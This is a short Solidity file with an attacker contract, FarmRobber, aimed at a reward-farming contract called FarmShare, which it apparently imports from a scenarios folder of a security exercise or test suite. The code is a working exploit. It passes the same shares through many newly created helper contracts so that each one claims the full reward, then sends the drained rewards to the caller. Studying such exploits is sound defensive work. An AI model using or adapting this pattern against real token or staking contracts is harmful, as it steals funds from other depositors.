// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {FarmShare} from "../scenarios/FarmShare.sol";

/// @title Hands the same shares from one helper to the next, each of which claims the whole reward.
contract FarmRobber {
    function rob(FarmShare share, uint256 times) external {
        IERC20 reward = share.reward();
        uint256 own = share.balanceOf(address(this));
        for (uint256 count; count < times; count++) {
            FarmHand hand = new FarmHand();
            share.transfer(address(hand), own);
            hand.claim(share, reward);
        }
        reward.transfer(msg.sender, reward.balanceOf(address(this)));
        share.transfer(msg.sender, own);
    }
}

contract FarmHand {
    function claim(FarmShare share, IERC20 reward) external {
        share.claim();
        reward.transfer(msg.sender, reward.balanceOf(address(this)));
        share.transfer(msg.sender, share.balanceOf(address(this)));
    }
}
